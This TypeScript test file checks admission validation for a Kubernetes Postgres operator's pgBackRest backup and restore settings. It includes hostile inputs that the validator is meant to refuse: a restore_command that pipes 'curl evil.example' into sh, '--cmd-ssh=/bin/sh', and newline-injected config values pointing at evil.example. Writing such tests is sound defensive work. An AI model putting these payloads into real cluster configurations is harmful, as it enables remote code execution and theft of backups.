import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { InvalidError, type KubeClient } from '@kanri/client';
import { parse } from 'yaml';
import {
  BACKUP_OPTIONS,
  isCredentialGlobalOption,
  operatorOwnsGlobalOption,
  POSTGRES_BACKUP_OPTIONS,
  type PostgresBackup,
  PostgresBackupResource,
  type PostgresCluster,
  PostgresClusterResource,
  RESTORE_OPTIONS,
  refusedOption,
} from '../src/index.js';
import { type AdmissionEnv, startAdmissionEnv } from './support/admission-env.js';

const readme = new URL('../../../../README.md', import.meta.url);

const volume = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } };
const s3 = { bucket: 'b', endpoint: 's3.eu-west-1.amazonaws.com', region: 'eu-west-1' };

/** A valid cluster spec whose pgbackrest section is `pgbackrest` (repo1 on S3 unless it says otherwise). */
const withBackups = (pgbackrest: Record<string, unknown>) => ({
  postgresVersion: 16,
  instances: [{ dataVolumeClaimSpec: volume }],
  backups: { pgbackrest: { repos: [{ name: 'repo1', s3 }], ...pgbackrest } },
});

describe('backups API admission against a real API server', () => {
  let env: AdmissionEnv;
  let client: KubeClient;
  before(async () => {
    env = await startAdmissionEnv([PostgresClusterResource, PostgresBackupResource]);
    client = env.client;
  });
  after(async () => {
    await env?.stop();
  });

  const clusters = () => client.resource<PostgresCluster>(PostgresClusterResource.apiVersion, 'PostgresCluster');
  const backups = () => client.resource<PostgresBackup>(PostgresBackupResource.apiVersion, 'PostgresBackup');
  const invalid = (error: unknown) => {
    assert.ok(error instanceof InvalidError, `rejected as invalid: ${error}`);
    return error.message;
  };
  const accepted = (spec: unknown) =>
    clusters().create({ metadata: { name: 'ok', namespace: 'default' }, spec } as PostgresCluster, { dryRun: true });
  const rejection = async (spec: unknown) =>
    invalid(
      await clusters()
        .create({ metadata: { name: 'bad', namespace: 'default' }, spec } as PostgresCluster, { dryRun: true })
        .catch((e: unknown) => e),
    );

  it('accepts every kind of repository, schedules, manual, restore and global options, and defaults enabled', async () => {
    const created = await accepted(
      withBackups({
        configuration: [{ secret: { name: 'creds', items: [{ key: 's3.conf', path: 's3.conf' }] } }],
        global: { 'repo1-retention-full': '14', 'repo2-path': '/pgbackrest/x', 'compress-type': 'zst' },
        repos: [
          { name: 'repo1', s3, schedules: { full: '0 1 * * 0', differential: '0 1 * * 1-6', incremental: '@hourly' } },
          { name: 'repo2', volume: { volumeClaimSpec: volume } },
          { name: 'repo3', gcs: { bucket: 'g' } },
          { name: 'repo4', azure: { container: 'c' } },
        ],
        manual: { repoName: 'repo2', options: ['--type=full'] },
        restore: { repoName: 'repo1', options: ['--type=time', '--target=2026-01-02 03:04:05+00'] },
      }),
    );
    assert.deepEqual(
      created.spec.backups?.pgbackrest.repos.map((r) => r.name),
      ['repo1', 'repo2', 'repo3', 'repo4'],
    );
    assert.equal(created.spec.backups?.pgbackrest.restore?.enabled, false);
    assert.deepEqual(created.spec.backups?.pgbackrest.repos[2]?.gcs, { bucket: 'g' });
    assert.deepEqual(created.spec.backups?.pgbackrest.repos[3]?.azure, { container: 'c' });
  });

  it("accepts PGO's starter example (a volume repo and PGO's pgBackRest image) with only apiVersion changed", async () => {
    const created = await accepted({
      image: 'registry.developers.crunchydata.com/crunchydata/crunchy-postgres:ubi9-16.9-2520',
      postgresVersion: 16,
      instances: [{ name: 'instance1', dataVolumeClaimSpec: volume }],
      backups: {
        pgbackrest: {
          image: 'registry.developers.crunchydata.com/crunchydata/crunchy-pgbackrest:ubi9-2.54.2-2520',
          repos: [{ name: 'repo1', volume: { volumeClaimSpec: volume } }],
        },
      },
    });
    assert.deepEqual(created.spec.backups?.pgbackrest.repos[0]?.volume?.volumeClaimSpec.resources, volume.resources);
  });

  it("accepts the top README's PostgresCluster example, backups and dataSource included", async () => {
    const text = await readFile(readme, 'utf8');
    const start = text.indexOf('apiVersion: postgres.kanri.dev/v1', text.indexOf('## `@kanri/postgres`'));
    const example = parse(text.slice(start, text.indexOf('```', start))) as PostgresCluster;
    const created = await clusters().create(
      { ...example, metadata: { name: 'readme', namespace: 'default' } },
      { dryRun: true },
    );
    assert.equal(created.spec.backups?.pgbackrest.repos[0]?.s3?.bucket, 'my-backups');
    assert.equal(created.spec.dataSource?.postgresCluster?.repoName, 'repo1');
  });

  it('refuses a repository named repo5, naming the field', async () => {
    const message = await rejection(withBackups({ repos: [{ name: 'repo5', s3 }] }));
    assert.match(message, /spec\.backups\.pgbackrest\.repos\[0\]\.name/);
  });

  it('refuses a repository with two storages, or with none, naming the repository', async () => {
    const two = await rejection(withBackups({ repos: [{ name: 'repo1', s3, volume: { volumeClaimSpec: volume } }] }));
    assert.match(two, /spec\.backups\.pgbackrest\.repos\[0\]: .*exactly one of s3, gcs, azure or volume/);
    const none = await rejection(withBackups({ repos: [{ name: 'repo1' }] }));
    assert.match(none, /spec\.backups\.pgbackrest\.repos\[0\]: .*exactly one of s3, gcs, azure or volume/);
  });

  it('refuses duplicate repository names, naming the duplicate', async () => {
    const message = await rejection(
      withBackups({
        repos: [
          { name: 'repo1', s3 },
          { name: 'repo1', gcs: { bucket: 'g' } },
        ],
      }),
    );
    assert.match(message, /spec\.backups\.pgbackrest\.repos\[1\]: Duplicate value/);
  });

  it('refuses restore options outside the allow-list, naming the option', async () => {
    for (const option of [
      '--recovery-option=restore_command=curl evil.example | sh',
      '--recovery-option=primary_conninfo=host=evil.example',
      // pgBackRest reads a unique prefix as the whole name: a deny-list of names misses these.
      '--target-act=pause',
      '--stanza=x',
      '--target-action=pause',
      '--repo=2',
      '--pg1-path /x',
      '--repo1-s3-endpoint=evil.example',
      '--config=/tmp/evil.conf',
      '--archive-mode=off',
      '--type=standby',
    ]) {
      const message = await rejection(
        withBackups({ restore: { enabled: true, repoName: 'repo1', options: [option] } }),
      );
      assert.ok(
        message.includes(
          `spec.backups.pgbackrest.restore.options: Invalid value: "array": pgbackrest restore: option ${option} is not allowed`,
        ),
        `${option}: ${message}`,
      );
    }
  });

  it('refuses a PostgresBackup or manual backup option that names a repository, host, file or command, naming it', async () => {
    for (const option of [
      '--repo1-s3-endpoint=evil.example',
      '--repo1-path=/pgbackrest/elsewhere',
      '--repo1-host=10.0.0.9',
      '--cmd-ssh=/bin/sh',
      '--exclude=base',
      '--no-archive-check',
      '--expire-auto',
      '--repo1-retention-full=1',
    ]) {
      const backup = invalid(
        await backups()
          .create(
            {
              metadata: { name: 'evil', namespace: 'default' },
              spec: { cluster: 'hippo', repoName: 'repo1', options: ['--process-max=2', option] },
            } as PostgresBackup,
            { dryRun: true },
          )
          .catch((e: unknown) => e),
      );
      assert.ok(
        backup.includes(`spec.options: Invalid value: "array": pgbackrest backup: option ${option} is not allowed`),
        backup,
      );
      const manual = await rejection(withBackups({ manual: { repoName: 'repo1', options: ['--type=full', option] } }));
      assert.ok(
        manual.includes(
          `spec.backups.pgbackrest.manual.options: Invalid value: "array": pgbackrest backup: option ${option} is not allowed`,
        ),
        manual,
      );
    }
  });

  it("accepts PGO's documented options: --type=full, and a time target, quoted as PGO's examples quote it", async () => {
    const created = await accepted(
      withBackups({
        manual: { repoName: 'repo1', options: ['--type=full', '--annotation=reason=before upgrade', '--start-fast'] },
        restore: {
          enabled: true,
          repoName: 'repo1',
          options: ['--type=time', '--target="2021-06-09 14:15:11-04"', '--target-exclusive', '--db-include=hippo'],
        },
      }),
    );
    assert.deepEqual(created.spec.backups?.pgbackrest.restore?.options?.[1], '--target="2021-06-09 14:15:11-04"');
    await accepted({
      postgresVersion: 16,
      instances: [{ dataVolumeClaimSpec: volume }],
      dataSource: {
        postgresCluster: { clusterName: 'hippo', repoName: 'repo1', options: ['--type=lsn', '--target=0/3000028'] },
      },
    });
  });

  it('refuses a --target whose form is not that of its --type', async () => {
    for (const options of [
      ['--target=2026-01-02 03:04:05+00'],
      ['--type=lsn', '--target=2026-01-02 03:04:05+00'],
      ['--type=name', "--target=x' restore_command = 'curl evil"],
    ]) {
      const message = await rejection(withBackups({ restore: { enabled: true, repoName: 'repo1', options } }));
      assert.match(
        message,
        /spec\.backups\.pgbackrest\.restore\.options: .*--target needs --type=time, lsn, xid or name/,
      );
    }
  });

  it('refuses credentials in global, of the cluster or of a data source, naming the key and where it belongs', async () => {
    for (const key of [
      'repo1-s3-key',
      'repo1-s3-key-secret',
      'repo1-s3-token',
      'repo1-cipher-pass',
      'repo-s3-key-secret',
    ]) {
      const cluster = await rejection(withBackups({ global: { [key]: 'AKIAEXAMPLE' } }));
      assert.ok(
        cluster.includes(
          `spec.backups.pgbackrest.global: Invalid value: "object": option ${key} is a credential: put it in a pgBackRest configuration file ([global] section) of a Secret listed in configuration`,
        ),
        cluster,
      );
      const source = await rejection({
        postgresVersion: 16,
        instances: [{ dataVolumeClaimSpec: volume }],
        dataSource: { pgbackrest: { repo: { name: 'repo1', s3 }, global: { [key]: 'AKIAEXAMPLE' } } },
      });
      assert.ok(
        source.includes(`spec.dataSource.pgbackrest.global: Invalid value: "object": option ${key} is a credential`),
        source,
      );
    }
  });

  it('refuses a newline or other control character in any string written into pgbackrest.conf, naming the field', async () => {
    const cases: [string, Record<string, unknown>][] = [
      ['spec.backups.pgbackrest.global', { global: { 'repo1-retention-full': '2\npg1-host=evil.example' } }],
      ['spec.backups.pgbackrest.global', { global: { 'repo1-retention-full\npg1-host': 'evil.example' } }],
      ['spec.backups.pgbackrest.global', { global: { 'compress-type': 'zst\r' } }],
      [
        'spec.backups.pgbackrest.repos[0].s3.endpoint',
        { repos: [{ name: 'repo1', s3: { ...s3, endpoint: 'e\nrepo1-host=evil' } }] },
      ],
      ['spec.backups.pgbackrest.repos[0].s3.bucket', { repos: [{ name: 'repo1', s3: { ...s3, bucket: 'b\u0000' } }] }],
      ['spec.backups.pgbackrest.repos[0].s3.region', { repos: [{ name: 'repo1', s3: { ...s3, region: 'r\t' } }] }],
      [
        'spec.backups.pgbackrest.configuration[0].secret.items[0].key',
        { configuration: [{ secret: { name: 'c', items: [{ key: 'a\nb', path: 'a.conf' }] } }] },
      ],
    ];
    for (const [field, pgbackrest] of cases) {
      const message = await rejection(withBackups(pgbackrest));
      assert.ok(message.includes(`${field}: Invalid value`), `${field}: ${message}`);
      assert.match(message, /control character/, field);
    }
    const source = await rejection({
      postgresVersion: 16,
      instances: [{ dataVolumeClaimSpec: volume }],
      dataSource: { pgbackrest: { repo: { name: 'repo1', s3: { ...s3, endpoint: 'e\n[db]' } } } },
    });
    assert.match(source, /spec\.dataSource\.pgbackrest\.repo\.s3\.endpoint: .*control character/);
  });

  it('refuses manual and restore repoNames that name no declared repository', async () => {
    const manual = await rejection(withBackups({ manual: { repoName: 'repo2' } }));
    assert.match(manual, /spec\.backups\.pgbackrest\.manual\.repoName: .*must name a repository declared in repos/);
    const restore = await rejection(withBackups({ restore: { enabled: true, repoName: 'repo3' } }));
    assert.match(restore, /spec\.backups\.pgbackrest\.restore\.repoName: .*must name a repository declared in repos/);
  });

  it('refuses a schedule that is not cron, naming the field', async () => {
    const message = await rejection(withBackups({ repos: [{ name: 'repo1', s3, schedules: { full: '0 1 * *' } }] }));
    assert.match(message, /spec\.backups\.pgbackrest\.repos\[0\]\.schedules\.full/);
  });

  it('refuses global options the operator owns, and options of undeclared repositories', async () => {
    for (const key of ['pg1-path', 'pg1-host-user', 'stanza', 'config-include-path', 'archive-async']) {
      const message = await rejection(withBackups({ global: { [key]: 'x' } }));
      assert.match(message, /spec\.backups\.pgbackrest\.global: .*set by the operator/, key);
    }
    const undeclared = await rejection(withBackups({ global: { 'repo2-path': '/x' } }));
    assert.match(undeclared, /spec\.backups\.pgbackrest\.global: .*must name a declared repository/);
  });

  it('gives the same answers as the pure checks the operator uses', async () => {
    const refused = (spec: unknown) =>
      clusters()
        .create({ metadata: { name: 'same', namespace: 'default' }, spec } as PostgresCluster, { dryRun: true })
        .then(
          () => false,
          (e: unknown) => invalid(e) !== '',
        );
    const repos = [
      { name: 'repo1', s3 },
      { name: 'repo3', gcs: { bucket: 'g' } },
    ];
    for (const key of [
      'pg1-port',
      'pg1-hostx',
      'configx',
      'repo1-path',
      'repo2-path',
      'repo3-x',
      'repo31-x',
      'pg2-path',
    ]) {
      const expected = operatorOwnsGlobalOption(key, ['repo1', 'repo3']);
      assert.equal(await refused(withBackups({ repos, global: { [key]: 'x' } })), expected, key);
    }
    for (const key of [
      'db-path',
      'db1-host',
      'backup-host',
      'db-timeout',
      'repo1-s3-key',
      'repo1-s3-key-type',
      'Repo1-path',
      'a=b',
    ]) {
      const expected =
        operatorOwnsGlobalOption(key, ['repo1', 'repo3']) ||
        isCredentialGlobalOption(key) ||
        !/^[a-z0-9][a-z0-9-]*$/.test(key);
      assert.equal(await refused(withBackups({ repos, global: { [key]: 'x' } })), expected, key);
    }
    const lists: [string, string[]][] = [
      ['restore', ['--repo']],
      ['restore', ['--repo 1']],
      ['restore', ['--repo1-path=/x']],
      ['restore', ['--stanza']],
      ['restore', ['--link-map=a=b']],
      ['restore', ['--link-all']],
      ['restore', ['--set=x']],
      ['restore', ['--set=20260102-030405F']],
      ['restore', ['--type=time', '--target=2026-01-02 03:04:05+00']],
      ['restore', ['--type=time', '--target=2026-01-02 03:04:05']],
      ['restore', ['--type=time', '--target=2026-01-02']],
      ['restore', ['--type=xid', '--target=2026-01-02 03:04:05+00']],
      ['restore', ['--type=name', '--target=a b']],
      ['restore', ['--type=name', '--target="a b"']],
      ['restore', ['--type=name', '--target=a"b']],
      ['restore', ['--type=name', `--target=${'é'.repeat(63)}`]],
      ['restore', ['--type=name', `--target=${'é'.repeat(64)}`]],
      ['restore', ['--type=name', `--target=${'😀'.repeat(40)}`]],
      ['restore', ['--type=lsn', '--type=lsn', '--target=0/1']],
      ['restore', ['--target-timeline=0x1F', '--process-max=16']],
      ['restore', ['--process-max=16 ']],
      ['manual', ['--type=full', '--annotation=k=ü and more', '--start-fast=n']],
      ['manual', ['--annotation=k=\u007f']],
      ['manual', ['--type=incr', '--type=full']],
      ['backup', ['--annotation=k=v', '--no-start-fast']],
      ['backup', ['--type=full']],
    ];
    for (const [where, options] of lists) {
      if (where === 'backup') {
        const expected = refusedOption(options, POSTGRES_BACKUP_OPTIONS) !== undefined;
        const actual = await backups()
          .create(
            {
              metadata: { name: 'same', namespace: 'default' },
              spec: { cluster: 'c', repoName: 'repo1', options },
            } as PostgresBackup,
            { dryRun: true },
          )
          .then(
            () => false,
            (e: unknown) => invalid(e) !== '',
          );
        assert.equal(actual, expected, JSON.stringify(options));
        continue;
      }
      const allowed = where === 'restore' ? RESTORE_OPTIONS : BACKUP_OPTIONS;
      const expected = refusedOption(options, allowed) !== undefined;
      const spec = withBackups(
        where === 'restore'
          ? { restore: { enabled: true, repoName: 'repo1', options } }
          : { manual: { repoName: 'repo1', options } },
      );
      assert.equal(await refused(spec), expected, `${where} ${JSON.stringify(options)}`);
    }
  });

  it('refuses a configuration entry that is not exactly one Secret or ConfigMap', async () => {
    const message = await rejection(
      withBackups({ configuration: [{ secret: { name: 'a' }, configMap: { name: 'b' } }] }),
    );
    assert.match(message, /spec\.backups\.pgbackrest\.configuration\[0\]: .*exactly one of secret or configMap/);
  });

  it('accepts one data source with the stanza defaulted, and refuses both kinds or forbidden options', async () => {
    const base = { postgresVersion: 16, instances: [{ dataVolumeClaimSpec: volume }] };
    const created = await accepted({
      ...base,
      dataSource: { pgbackrest: { repo: { name: 'repo1', s3 }, global: { 'repo1-path': '/pgbackrest/old' } } },
    });
    assert.equal(created.spec.dataSource?.pgbackrest?.stanza, 'db');
    await accepted({ ...base, dataSource: { postgresCluster: { clusterName: 'hippo', repoName: 'repo1' } } });
    const both = await rejection({
      ...base,
      dataSource: {
        postgresCluster: { clusterName: 'hippo', repoName: 'repo1' },
        pgbackrest: { repo: { name: 'repo1', s3 } },
      },
    });
    assert.match(both, /spec\.dataSource: .*at most one of postgresCluster or pgbackrest/);
    const option = await rejection({
      ...base,
      dataSource: { postgresCluster: { clusterName: 'hippo', repoName: 'repo1', options: ['--target-action=pause'] } },
    });
    assert.match(option, /spec\.dataSource\.postgresCluster\.options: .*option --target-action=pause is not allowed/);
    const onVolume = await rejection({
      ...base,
      dataSource: { pgbackrest: { repo: { name: 'repo1', volume: { volumeClaimSpec: volume } } } },
    });
    assert.match(onVolume, /spec\.dataSource\.pgbackrest\.repo\.volume: /);
  });

  it('creates a PostgresBackup with defaults, refuses --type in options (type is a field), and refuses any change of its spec', async () => {
    const spec = { cluster: 'hippo', repoName: 'repo1' };
    const typed = invalid(
      await backups()
        .create(
          {
            metadata: { name: 'typed', namespace: 'default' },
            spec: { ...spec, options: ['--type=diff'] },
          } as PostgresBackup,
          { dryRun: true },
        )
        .catch((e: unknown) => e),
    );
    assert.match(typed, /spec\.options: .*option --type=diff is not allowed/);
    const badRepo = invalid(
      await backups()
        .create(
          { metadata: { name: 'r5', namespace: 'default' }, spec: { ...spec, repoName: 'repo5' } } as PostgresBackup,
          {
            dryRun: true,
          },
        )
        .catch((e: unknown) => e),
    );
    assert.match(badRepo, /spec\.repoName/);

    const created = await backups().create({ metadata: { name: 'b1', namespace: 'default' }, spec } as PostgresBackup);
    assert.equal(created.spec.type, 'full');
    assert.equal(created.spec.trigger, 'manual');
    const changed = invalid(
      await backups()
        .patch('b1', { spec: { type: 'incr' } }, { namespace: 'default' })
        .catch((e: unknown) => e),
    );
    assert.match(changed, /spec: .*spec is immutable/);
    // The status stays writable: the operator records the outcome there.
    const reported = await backups().patchStatus(
      'b1',
      {
        status: { phase: 'Succeeded', size: '96.2 MiB', sizeBytes: 100_873_011, walStart: '000000010000000000000003' },
      },
      { namespace: 'default' },
    );
    assert.equal(reported.status?.phase, 'Succeeded');
    assert.equal((await backups().get('b1', { namespace: 'default' })).spec.type, 'full');
  });
});
